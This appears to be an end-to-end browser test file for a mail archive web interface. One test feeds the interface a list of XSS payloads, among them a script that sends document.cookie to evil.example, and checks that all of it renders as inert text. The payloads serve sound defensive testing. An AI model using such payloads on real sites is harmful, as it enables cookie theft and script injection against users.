import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Daybook, startDaybook } from '../../bench/peers/daybook.ts';
import { barriers, noChromium, openBrowser, openPage, shown, signIn, tokenOf, tokensOf } from '../support/browser.ts';
import { eventually } from '../support/eventually.ts';
import { dateOf, deliver, idOf, lunchReport } from '../support/journey-mail.ts';
import { sentOf } from '../support/journey-reports.ts';
import { buildMessage, buildReport } from '../support/mail.ts';

const http = tokensOf('viewer', 'operator', 'auditor', 'admin');
const headers = { authorization: `Bearer ${tokenOf('admin')}` };
const config = `
logLevel: error
store: { minimumFree: 1MB }
directory: { internalDomains: [north.example] }
search: { text: true }
definitions:
  - { id: exchange, description: Exchange, transport: smtp, serviceEmailAddress: journal@journal.north.example, deliveryWaitAttempts: 1 }
  - { id: slow, description: Waits, transport: smtp, serviceEmailAddress: slow@journal.north.example, deliveryWaitAttempts: 4, deliveryWaitInterval: 1h }
`;
const dayMs = 86_400_000;
const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
/** Each would run, ask for something, or read as something else, were it taken for more than text. */
const hostile = [
  '<img src=x onerror=alert(1)>',
  '"><script>fetch("http://evil.example/"+document.cookie)</script>',
  'javascript:alert(document.domain)',
  'invoice\u202efdp.exe',
  '\u2066\u2067right\u2069 \u0007\u200bleft',
  '{{constructor.constructor("alert(1)")()}}',
  'מכתב שלום </title><svg/onload=alert(1)>',
  `${'very-long-'.repeat(60)}end`,
];

/** A header may be called so (RFC 5322 section 3.6.8: ftext). */
const evilName = '<img/src=x/onerror=alert(5)>';

/** A report about a message whose subject, names, headers, addresses, text and HTML are all hostile. */
function hostileReport(text: string, at: number): Buffer {
  const messageId = idOf(`hostile-${at}`);
  const html = `<html><body onload="alert(2)"><script>alert(3)</script><img src="http://evil.example/pixel.gif"><a href="javascript:alert(4)">${text}</a><iframe src="http://evil.example/"></iframe></body></html>`;
  const original = [
    `From: ${encoded(text)} <ada@north.example>`,
    'To: bo@north.example',
    `Subject: ${encoded(text)}`,
    `Message-ID: ${messageId}`,
    `Date: ${dateOf()}`,
    `${evilName}: ${encoded(text)}`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(html).toString('base64'),
    '--b',
    `Content-Type: application/octet-stream`,
    `Content-Disposition: attachment; filename="${encoded(text)}"`,
    '',
    'x',
    '--b--',
    '',
  ].join('\r\n');
  const recipients = [{ address: 'bo@north.example' }, { address: `"${evilName}"@north.example` }];
  return buildReport({ messageId, originals: [Buffer.from(original)], recipients });
}

function aged(name: string, { skewed = false } = {}): Buffer {
  const date = dateOf(Date.now() - 90 * dayMs);
  const originals = [buildMessage({ messageId: idOf(name), date })];
  return lunchReport(name, { originals, headers: [`Date: ${skewed ? dateOf() : date}`] });
}

describe.skipIf(noChromium())('the pages of the archive in a browser', () => {
  let browser: Browser;
  let daybook: Daybook;
  const ids: string[] = [];
  let held = '';
  let quarantined = '';
  beforeAll(async () => {
    browser = await openBrowser();
    daybook = await startDaybook({ config, http });
    const send = async (bytes: Uint8Array, to = 'journal@journal.north.example') =>
      (await deliver(daybook.smtpPort, [to], bytes)).id;
    const recipients = [{ address: 'bo@north.example' }, { address: 'hidden@north.example', type: 'bcc' as const }];
    ids.push(await send(lunchReport('plain', { recipients })));
    for (const [at, text] of hostile.entries()) ids.push(await send(hostileReport(text, at)));
    held = await send(aged('old'));
    for (const name of ['skewed-1', 'skewed-2', 'skewed-3']) await send(aged(name, { skewed: true }));
    quarantined = await send(sentOf('no header', 'broken').bytes);
    await send(lunchReport('waiting'), 'slow@journal.north.example');
    await eventually(async () => {
      const answer = await daybook.fetch('/v1/ledger', { headers });
      return ((await answer.json()) as { inProcess: number }).inProcess === 1;
    });
  });
  afterAll(async () => {
    await browser?.close();
    await daybook?.[Symbol.asyncDispose]();
  });

  const paths = () => [
    '/messages',
    '/messages?subject=nothing-like-it',
    '/messages?text=soup',
    `/messages/${ids[0]}`,
    ...['held', 'matching'].map((state) => `/intake?state=${state}`),
    ...[held, quarantined].map((id) => `/intake/${id}`),
    ...['/events', '/ledger', '/store'],
  ];

  test.each([
    ['light', 1280],
    ['light', 400],
    ['dark', 1280],
  ] as const)(
    'each is without an error, a barrier or a request elsewhere, %s and %i wide',
    async (scheme, width) => {
      await using watched = await openPage(browser, daybook, { scheme, width });
      const { page, troubles, foreign } = watched;
      await signIn(page, tokenOf('admin'));
      for (const path of paths()) {
        await page.goto(path);
        await shown(page);
        expect([path, await page.locator('.note.bad').count()]).toEqual([path, 0]);
        expect([path, await barriers(page, scheme === 'dark' ? 'colours' : 'all')]).toEqual([path, []]);
        expect([path, await page.evaluate('document.documentElement.scrollWidth')]).toEqual([path, width]);
      }
      expect([troubles, foreign]).toEqual([[], []]);
    },
    180_000,
  );

  test('hostile subjects, names and HTML are read as text, run nothing and ask for nothing', async () => {
    await using watched = await openPage(browser, daybook);
    const { page, troubles, foreign } = watched;
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await signIn(page, tokenOf('auditor'), '/messages');
    await page.getByRole('link', { name: hostile[0] ?? '' }).waitFor();
    for (const [at, id] of ids.slice(1).entries()) {
      await page.goto(`/messages/${id}`);
      await shown(page);
      await page.getByText('How it came to be').waitFor();
      await page.getByText('Headers (', { exact: false }).click();
      const text = await page.locator('main').innerText();
      const seen = (hostile[at] ?? '').replace(/(?!\t)[\p{Cc}\p{Cf}]/gu, (hidden) => codeOf(hidden));
      expect(text).toContain(seen);
      expect(text.split(evilName).length, 'a name of a header, an address').toBeGreaterThan(2);
      const file = await page.getByRole('table', { name: 'Attachments (1)' }).locator('tbody').innerText();
      expect(file).toContain(seen.slice(0, 100));
      expect(text, 'nothing invisible is left').not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/);
      expect(await page.locator('main :is(img, script, iframe, svg, object, embed)').count()).toBe(0);
      expect(await page.locator('main a[href^="javascript"]').count()).toBe(0);
    }
    expect([dialogs, troubles, foreign]).toEqual([[], [], []]);
    const written = encodeURIComponent(hostile[0] ?? '');
    const addresses = [
      ...['messages?subject=', 'messages/', 'intake?state=', 'explain?intake=', 'journaling/', 'live/', 'alerts/'],
    ];
    for (const address of addresses) {
      await page.goto(`/${address}${written}`);
      await shown(page);
      expect(await page.locator(':is(header, main) img').count(), address).toBe(0);
    }
    expect([dialogs, foreign]).toEqual([[], []]);
  });

  test('mail is found by words of its text, and a page that is behind says so', async () => {
    await using watched = await openPage(browser, daybook);
    const { page, troubles } = watched;
    await signIn(page, tokenOf('auditor'), '/messages');
    await page.getByLabel('Words in it').fill('soup today');
    await page.keyboard.press('Enter');
    await page.waitForURL('**/messages?text=soup+today');
    const found = page.locator('main table tbody tr');
    await expect.poll(() => found.count(), { timeout: 30_000 }).toBeGreaterThan(0);
    expect(await page.locator('.note.warn').count()).toBe(0);
    const behind = { items: [], next: null, textIndex: { behind: 12 } };
    await page.route('**/v1/messages?**', (route) => route.fulfill({ json: behind }));
    await page.goto('/messages?text=later');
    await page.getByText('The text of 12 messages is not indexed yet').waitFor();
    expect(troubles).toEqual([]);
  });

  test('a search stands in the address, and is found again by it; keys alone are enough', async () => {
    await using watched = await openPage(browser, daybook);
    const { page } = watched;
    await signIn(page, tokenOf('auditor'), '/messages');
    await page.getByRole('table').waitFor();
    await page.keyboard.press('/');
    await page.keyboard.type('hidden@north.example');
    await page.keyboard.press('Enter');
    await page.waitForURL('**/messages?mailbox=hidden%40north.example');
    await expect.poll(() => page.locator('tbody tr').count()).toBe(1);
    await page.reload();
    await expect.poll(() => page.locator('tbody tr').count()).toBe(1);
    await page.locator('tbody a').focus();
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { level: 1, name: 'Message' }).waitFor();
    const bcc = page.getByRole('row').filter({ hasText: 'hidden@north.example' });
    await expect.poll(() => bcc.innerText()).toMatch(/bcc[\s\S]*journal envelope/);
    await page.getByRole('list', { name: `Steps of ${ids[0]}` }).waitFor();
    await page.getByRole('button', { name: 'Make the proof' }).click();
    await page.getByText(/record \d+ of \d+ under the head/).waitFor();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('link', { name: 'Download .eml' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe(`${ids[0]}.eml`);
    const asked = ['message.viewed', 'intake.proved', 'message.downloaded', 'messages.searched'];
    await eventually(async () => {
      const answer = await daybook.fetch('/v1/events?limit=500', { headers });
      const { items } = (await answer.json()) as { items: { type: string; actor: string }[] };
      return asked.every((type) => items.some((event) => event.type === type && event.actor === 'the-auditor'));
    });
  });

  test('held messages with a suspected clock are released together, a quarantined one is tried again', async () => {
    await using watched = await openPage(browser, daybook);
    const { page, troubles } = watched;
    await signIn(page, tokenOf('operator'), '/intake');
    await expect.poll(() => page.locator('tbody tr').count()).toBe(4);
    expect(await page.getByRole('link', { name: 'Messages', exact: true }).count()).toBe(0);
    await page.getByRole('button', { name: 'Release all of them' }).click();
    await page.getByRole('button', { name: 'Release', exact: true }).click();
    await page.getByText('3 messages released.').waitFor();
    await page.reload();
    await expect.poll(() => page.locator('tbody tr').count()).toBe(1);
    await page.goto(`/intake/${held}`);
    await page.getByText('Its age was judged by').waitFor();
    expect(await page.getByText('Download .eml').count()).toBe(0);
    await page.goto(`/intake/${quarantined}`);
    await page.getByRole('button', { name: 'Try again' }).first().click();
    await page.getByLabel('Reason (may be left out)').fill('to see');
    let posted = 0;
    page.on('request', (request) => {
      if (request.url().endsWith('/retry')) posted += 1;
    });
    // Twice before the page is drawn anew, as a fast finger does.
    const again = page.getByRole('dialog').getByRole('button', { name: 'Try again' });
    await again.evaluate((button: { click(): void }) => [button.click(), button.click()]);
    await page.locator('.story li.retried').waitFor();
    expect(posted, 'a double click is one wish').toBe(1);
    await page.goto('/intake?state=matching');
    await page.getByRole('cell', { name: '1 of 4' }).waitFor();
    expect(troubles).toEqual([]);
  });

  test('events come in while one looks, the account adds up, and a verification is seen to end well', async () => {
    await using watched = await openPage(browser, daybook);
    const { page, troubles } = watched;
    await signIn(page, tokenOf('admin'), '/events');
    await page.getByRole('table').waitFor();
    await daybook.fetch('/v1/status', { headers: { authorization: 'Bearer wrong' } });
    await page.getByRole('cell', { name: 'access.denied' }).first().waitFor();
    await page.goto('/ledger');
    await page.getByText('The account adds up').waitFor();
    await page.goto('/store');
    await page.getByRole('button', { name: 'Verify all now' }).click();
    await page.getByText('Everything is as it was written.').waitFor();
    expect(troubles).toEqual([]);
  });

  test('an account that does not add up is said loudly', async () => {
    await using watched = await openPage(browser, daybook);
    const { page } = watched;
    await page.route('**/v1/ledger', async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ response: answer, json: { ...((await answer.json()) as object), difference: 2 } });
    });
    await signIn(page, tokenOf('auditor'), '/ledger');
    expect(await page.getByRole('alert').innerText()).toContain('The account does not add up: all time +2');
  });

  test('a list longer than a page is gone through step by step, and a new search begins at its newest', async () => {
    for (let at = 0; at < 60; at += 1)
      await deliver(daybook.smtpPort, ['journal@journal.north.example'], lunchReport(`paged-${at}`));
    await using watched = await openPage(browser, daybook);
    const { page, troubles } = watched;
    await signIn(page, tokenOf('auditor'), '/messages');
    const at = (number: number) => page.getByText(`Page ${number}`, { exact: true }).waitFor();
    const links = async (): Promise<readonly (string | null)[]> =>
      page.locator('tbody a').evaluateAll((each) => each.map((link) => link.getAttribute('href')));
    await expect.poll(async () => (await links()).length).toBe(50);
    const newest = await links();
    await page.getByRole('button', { name: 'Older' }).click();
    await at(2);
    await expect.poll(async () => (await links()).some((link) => newest.includes(link))).toBe(false);
    expect((await links()).length).toBeGreaterThan(10);
    await page.getByRole('button', { name: 'Newer' }).click();
    await at(1);
    await expect.poll(links).toEqual(newest);
    await page.getByRole('button', { name: 'Older' }).click();
    await at(2);
    await page.getByLabel('Subject words').fill('lunch');
    await page.getByRole('button', { name: 'Search' }).click();
    await at(1);
    expect(troubles).toEqual([]);
  });
});

const codeOf = (character: string): string =>
  `U+${(character.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}`;
